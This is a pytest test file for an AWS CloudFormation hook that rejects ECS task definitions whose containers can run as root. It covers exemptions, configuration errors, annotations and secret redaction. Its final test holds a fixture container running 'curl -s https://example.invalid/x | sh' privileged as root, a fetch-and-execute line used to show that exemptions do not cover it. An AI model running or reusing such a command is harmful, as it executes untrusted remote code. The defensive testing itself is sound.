"""The real Lambda entrypoint (``handlers.hook``) driven with the event CloudFormation sends."""

import json
import logging
from pathlib import Path
from typing import Any

import pytest
from hook_event import PLACEHOLDER_CREDENTIALS, hook_event, task_definition

from guardrails_ecs_nonrootuser import handlers, policy
from guardrails_ecs_nonrootuser.policy import MESSAGE_LIMIT

ROOT = Path(__file__).resolve().parent.parent


def invoke(event: dict[str, Any]) -> dict[str, Any]:
    response = dict(handlers.hook(event, None))
    json.dumps(response)  # the answer must be JSON as it stands
    return response


def test_compliant_task_definition_succeeds_with_a_short_message() -> None:
    response = invoke(hook_event(task_definition("1010", "1010:1010", "node", "node:node")))
    assert response["hookStatus"] == "SUCCESS"
    assert "errorCode" not in response
    assert response["message"] == "Checked 4 containers: none can run as root."
    assert response["clientRequestToken"] == "4b90a7e4-b790-456b-a937-0cfdfa211dfe"


@pytest.mark.parametrize(
    "user",
    [pytest.param(..., id="missing"), "0", "root", "bin:root", "00", "+0", "1000:0", ":1000", ""],
)
def test_container_that_can_run_as_root_fails_non_compliant(user: Any) -> None:
    response = invoke(hook_event(task_definition("1000:1000", user)))
    assert response["hookStatus"] == "FAILED"
    assert response["errorCode"] == "NonCompliant"
    assert response["message"].startswith(
        '1 of 2 containers can run as root. Violation: container "app1" (#1)'
    )
    assert "Fix: " in response["message"]


def test_update_checks_the_new_properties_not_the_previous_ones() -> None:
    event = hook_event(
        task_definition("0"),
        invocation_point="UPDATE_PRE_PROVISION",
        previous=task_definition("1000"),
    )
    assert invoke(event)["errorCode"] == "NonCompliant"
    event = hook_event(
        task_definition("1000"),
        invocation_point="UPDATE_PRE_PROVISION",
        previous=task_definition("0"),
    )
    assert invoke(event)["hookStatus"] == "SUCCESS"


def test_delete_is_never_blocked() -> None:
    event = hook_event(task_definition("0"), invocation_point="DELETE_PRE_PROVISION")
    assert invoke(event)["hookStatus"] == "SUCCESS"


def test_one_annotation_per_container_with_status_remediation_and_link() -> None:
    properties = task_definition("1000", "0")
    properties["ContainerDefinitions"].append({"Name": "log_router", "Image": "fluent-bit"})
    response = invoke(hook_event(properties, {"ExemptContainerNames": ["log_*"]}))
    annotations = response["annotations"]
    assert [a["status"] for a in annotations] == ["PASSED", "FAILED", "SKIPPED"]
    assert [a["annotationName"] for a in annotations] == [
        'NonRootUser container "app0" (#0)',
        'NonRootUser container "app1" (#1)',
        'NonRootUser container "log_router" (#2)',
    ]
    failed = annotations[1]
    assert failed["severityLevel"] == "HIGH"
    assert failed["remediationMessage"].startswith("set User to a non-root uid")
    assert "uid 0 is root" in failed["statusMessage"]
    assert failed["remediationLink"] == policy.rule_page("root-user")
    assert failed["remediationLink"].endswith("/docs/rules/root-user.md")
    assert annotations[0]["remediationLink"] == handlers.DECISION_TABLE_URL
    assert "remediationMessage" not in annotations[0]


def test_annotations_are_capped_for_oversized_requests() -> None:
    response = invoke(hook_event(task_definition(*["0"] * 500)))
    assert len(response["annotations"]) == handlers.MAX_ANNOTATIONS
    assert len(response["message"]) <= MESSAGE_LIMIT
    assert response["message"].startswith("500 of 500 containers can run as root.")


@pytest.mark.parametrize(
    ("configuration", "user", "status"),
    [
        pytest.param(None, "1000:0", "FAILED", id="unset-configuration-is-strict"),
        pytest.param({}, "1000:0", "FAILED", id="empty-configuration-is-strict"),
        pytest.param({"AllowRootGroup": "true"}, "1000:0", "SUCCESS", id="boolean-as-string"),
        pytest.param({"AllowRootGroup": True}, "1000:0", "SUCCESS", id="boolean"),
        pytest.param({"MinimumUid": "1000"}, "999", "FAILED", id="integer-as-string"),
        pytest.param({"RequireNumericUser": True}, "node", "FAILED", id="require-numeric"),
        pytest.param(
            {"ExemptImages": ["public.ecr.aws/nginx/*"]}, "0", "SUCCESS", id="exempt-image"
        ),
        pytest.param(
            {
                "Exemptions": [
                    {"ContainerName": "app0", "Image": "public.ecr.aws/nginx/*", "Reason": "r"}
                ]
            },
            "0",
            "SUCCESS",
            id="exemption-entry",
        ),
        pytest.param(
            {"Exemptions": [{"ContainerName": "app0", "Image": "docker.io/*", "Reason": "r"}]},
            "0",
            "FAILED",
            id="exemption-entry-other-image",
        ),
    ],
)
def test_type_configuration_shapes_the_decision(configuration: Any, user: str, status: str) -> None:
    assert invoke(hook_event(task_definition(user), configuration))["hookStatus"] == status


def test_exemption_reason_and_exception_tag_reach_the_message() -> None:
    """Exemptions arrive as the library's model objects; the tag is read from the resource's
    own Tags, as CloudFormation sends them."""
    entry = {"ContainerName": "app0", "Image": "public.ecr.aws/nginx/*", "Reason": "SEC-1"}
    response = invoke(hook_event(task_definition("0"), {"Exemptions": [entry]}))
    assert response["message"].endswith(
        'exempt by Exemptions[0] (ContainerName "app0", Image "public.ecr.aws/nginx/*"): "SEC-1".'
    )
    tagged = {**task_definition("0", ...), "Tags": [{"Key": "nonroot-exception", "Value": "SEC-2"}]}
    configuration = {"ExceptionTagKey": "nonroot-exception"}
    response = invoke(hook_event(tagged, configuration))
    assert response["hookStatus"] == "SUCCESS"
    assert [a["status"] for a in response["annotations"]] == ["SKIPPED", "SKIPPED"]
    assert 'excepted by its tag "nonroot-exception": "SEC-2"' in response["message"]
    assert invoke(hook_event(tagged))["hookStatus"] == "FAILED"  # the key is not configured


def test_windows_containers_setting() -> None:
    properties = task_definition("ContainerAdministrator", windows=True)
    assert invoke(hook_event(properties))["errorCode"] == "NonCompliant"
    assert invoke(hook_event(properties, {"WindowsContainers": "SKIP"}))["hookStatus"] == "SUCCESS"
    passing = task_definition("ContainerUser", windows=True)
    assert invoke(hook_event(passing))["hookStatus"] == "SUCCESS"


@pytest.mark.parametrize(
    ("configuration", "key"),
    [
        ({"MinimumUid": "abc"}, "MinimumUid"),
        ({"MinimumUid": 0}, "MinimumUid"),
        ({"AllowRootGroup": "maybe"}, "AllowRootGroup"),
        ({"WindowsContainers": "ALLOW"}, "WindowsContainers"),
        ({"ExemptImages": "nginx"}, "ExemptImages"),
        ({"ExemptImages": ["*"]}, "ExemptImages[0]"),
        ({"Exemptions": [{"Image": "nginx"}]}, "Exemptions[0].Reason"),
        ({"Exemptions": [{}]}, "Exemptions[0]"),
        ({"Exemptions": [{"Image": "*", "Reason": "r"}]}, "Exemptions[0]"),
        ({"ExceptionTagKey": "aws:x"}, "ExceptionTagKey"),
    ],
)
def test_invalid_configuration_fails_naming_the_key(configuration: Any, key: str) -> None:
    response = invoke(hook_event(task_definition("1000"), configuration))
    assert response["hookStatus"] == "FAILED"
    assert response["errorCode"] == "InvalidTypeConfiguration"
    assert response["message"].startswith(f"Invalid type configuration: {key} ")


def test_other_target_is_unsupported() -> None:
    response = invoke(hook_event({"BucketName": "b"}, target="AWS::S3::Bucket"))
    assert response["errorCode"] == "UnsupportedTarget"
    assert response["message"] == (
        'This hook checks AWS::ECS::TaskDefinition only, not "AWS::S3::Bucket".'
    )


@pytest.mark.parametrize(
    "properties",
    [
        pytest.param({"ContainerDefinitions": "app"}, id="containers-not-a-list"),
        pytest.param({"ContainerDefinitions": [["User", "0"]]}, id="container-not-an-object"),
        pytest.param("ContainerDefinitions", id="properties-not-an-object"),
    ],
)
def test_malformed_request_is_invalid_request(properties: Any) -> None:
    response = invoke(hook_event(properties))
    assert response["errorCode"] == "InvalidRequest"
    assert response["message"]


def test_missing_target_model_is_invalid_request() -> None:
    event = hook_event(task_definition("1000"))
    event["requestData"]["targetModel"] = None
    response = invoke(event)
    assert response["errorCode"] == "InvalidRequest"
    assert response["message"] == "The request carries no targetModel object."


@pytest.mark.parametrize(
    "target_model",
    [
        pytest.param({}, id="empty"),
        pytest.param({"resourceProperties": None}, id="null"),
        pytest.param({"resourceProperty": {"ContainerDefinitions": []}}, id="misspelled"),
        pytest.param({"resourceProperties": ["ContainerDefinitions"]}, id="not-an-object"),
    ],
)
def test_a_target_model_without_resource_properties_is_invalid_request(
    target_model: dict[str, Any],
) -> None:
    event = hook_event(None)
    event["requestData"]["targetModel"] = target_model
    response = invoke(event)
    assert (response["hookStatus"], response["errorCode"]) == ("FAILED", "InvalidRequest")
    assert response["message"] == "The request's targetModel carries no resourceProperties object."


@pytest.mark.parametrize(
    "properties",
    [
        pytest.param({}, id="empty-properties"),
        pytest.param({"Family": "x"}, id="no-container-definitions"),
    ],
)
def test_no_container_definitions_succeeds(properties: Any) -> None:
    response = invoke(hook_event(properties))
    assert response["hookStatus"] == "SUCCESS"
    assert response["message"] == "No ContainerDefinitions: nothing to check."


def test_nothing_sensitive_is_logged_or_returned(
    caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = "s3cr3t-value-7d1f"
    properties = task_definition("0", "1000")
    properties["ContainerDefinitions"][0]["Environment"] = [{"Name": "PASSWORD", "Value": secret}]
    properties["ContainerDefinitions"][1]["Secrets"] = [{"Name": "K", "ValueFrom": secret}]
    caplog.set_level(logging.DEBUG)
    response = invoke(hook_event(properties, {"ExemptImages": ["nothing"]}))
    captured = capsys.readouterr()
    output = json.dumps(response) + captured.out + captured.err + caplog.text
    for value in (secret, "PASSWORD", *PLACEHOLDER_CREDENTIALS.values()):
        assert value not in output
    assert response["errorCode"] == "NonCompliant"


def test_test_entrypoint_gives_the_same_decision() -> None:
    event = {
        "credentials": PLACEHOLDER_CREDENTIALS,
        "actionInvocationPoint": "CREATE_PRE_PROVISION",
        "request": {
            "clientRequestToken": "token",
            "hookContext": {
                "targetName": "AWS::ECS::TaskDefinition",
                "targetType": "RESOURCE",
                "targetLogicalId": "TaskDefinition",
                "targetModel": {"resourceProperties": task_definition("1000:0")},
            },
        },
        "typeConfiguration": {"MinimumUid": "10"},
    }
    response = handlers.test_entrypoint(event, None)
    assert response["status"] == "FAILED"
    assert response["errorCode"] == "NonCompliant"
    assert "the group is root" in response["message"]


@pytest.mark.parametrize("key", ["stackId", "awsAccountId", "hookTypeVersion", "hookTypeName"])
def test_request_without_stack_or_account_is_still_decided(key: str) -> None:
    # A Cloud Control API request has no stack; the decision never depends on these fields.
    event = hook_event(task_definition("0"))
    del event[key]
    response = invoke(event)
    assert response["errorCode"] == "NonCompliant"
    event[key] = None
    assert invoke(event)["errorCode"] == "NonCompliant"


def test_warn_only_reports_a_violation_and_answers_success_at_the_resource_layer() -> None:
    properties = task_definition(..., "1000")
    blocked = invoke(hook_event(properties))
    assert (blocked["hookStatus"], blocked["errorCode"]) == ("FAILED", "NonCompliant")
    response = invoke(hook_event(properties, {"WarnOnly": ["missing-user"]}))
    assert response["hookStatus"] == "SUCCESS" and "errorCode" not in response
    assert response["message"].startswith(
        "Checked 2 containers: 1 violation is reported only, as WarnOnly lists its rule; "
        'nothing is blocked. Warning: container "app0" (#0) User not set'
    )
    warned, passed = response["annotations"]
    assert (warned["status"], warned["severityLevel"]) == ("FAILED", "MEDIUM")
    assert warned["remediationLink"] == policy.rule_page("missing-user")
    assert passed["status"] == "PASSED"
    # other rules keep blocking
    response = invoke(hook_event(task_definition(..., "0"), {"WarnOnly": ["missing-user"]}))
    assert response["hookStatus"] == "FAILED"
    assert response["message"].startswith(
        "1 of 2 containers can run as root; 1 more reported only (WarnOnly). Violation: "
    )


def test_an_unknown_warn_only_rule_is_an_invalid_configuration() -> None:
    response = invoke(hook_event(task_definition("1000"), {"WarnOnly": ["missing-usr"]}))
    assert (response["hookStatus"], response["errorCode"]) == (
        "FAILED",
        "InvalidTypeConfiguration",
    )
    assert 'WarnOnly[0] "missing-usr" is not a rule id' in response["message"]


def test_the_event_script_prints_an_event_the_entrypoint_decides(
    capsys: pytest.CaptureFixture[str],
) -> None:
    import hook_event as script

    assert script.main(["0", "-", "--config", '{"WarnOnly": ["missing-user"]}']) == 0
    event = json.loads(capsys.readouterr().out)
    users = [
        c.get("User")
        for c in event["requestData"]["targetModel"]["resourceProperties"]["ContainerDefinitions"]
    ]
    assert users == ["0", None]
    response = invoke(event)
    assert response["hookStatus"] == "FAILED"
    assert "1 more reported only (WarnOnly)" in response["message"]


def test_the_ready_configuration_does_not_exempt_a_root_shell_in_the_router_image() -> None:
    """An image exemption is for what the image runs: a container of the FireLens router's
    image that runs a shell of its own, privileged, as root, is decided like any other."""
    ready = json.loads((ROOT / "deploy" / "config" / "enforce.json").read_text("utf-8"))
    properties = ready["CloudFormationConfiguration"]["HookConfiguration"]["Properties"]
    shell = {
        "Name": "log_router",
        "Image": "amazon/aws-for-fluent-bit:latest",
        "EntryPoint": ["/bin/sh", "-c"],
        "Command": ["curl -s https://example.invalid/x | sh"],
        "User": "0",
        "Privileged": "true",
    }
    router = {
        "Name": "log_router",
        "Image": "amazon/aws-for-fluent-bit:latest",
        "FirelensConfiguration": {"Type": "fluentbit"},
    }
    response = invoke(hook_event({"ContainerDefinitions": [shell]}, properties))
    assert (response["hookStatus"], response["errorCode"]) == ("FAILED", "NonCompliant")
    assert (
        "Exemptions[1] does not exempt it, as it overrides EntryPoint and Command"
        in (response["message"])
    )
    response = invoke(hook_event({"ContainerDefinitions": [router]}, properties))
    assert response["hookStatus"] == "SUCCESS"
    assert [a["status"] for a in response["annotations"]] == ["SKIPPED"]
